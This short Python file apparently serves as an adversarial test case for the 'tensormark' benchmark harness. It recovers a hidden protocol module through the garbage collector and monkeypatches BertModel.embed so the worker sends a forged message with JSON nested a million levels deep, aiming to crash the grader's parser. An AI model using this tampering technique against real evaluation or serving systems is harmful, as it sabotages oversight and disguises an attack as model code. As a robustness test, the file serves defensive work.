# tries: answer with JSON that is nested a million times
# loses: embed
import gc

gc.unfreeze()  # it can no longer be imported, but is still among all objects
modules = [m for m in gc.get_objects() if type(m) is type(gc)]
protocol = next(m for m in modules if m.__name__ == "tensormark.worker.protocol")
right = BertModel.embed


def forged(message, tensors=None):
    text = b'{"before":' + b"[" * 1_000_000
    return protocol.HEADER.pack(protocol.MAGIC, len(text), 0) + text


def embed(self, input_ids, *more):
    protocol.encode = forged
    return right(self, input_ids, *more)


BertModel.embed = embed
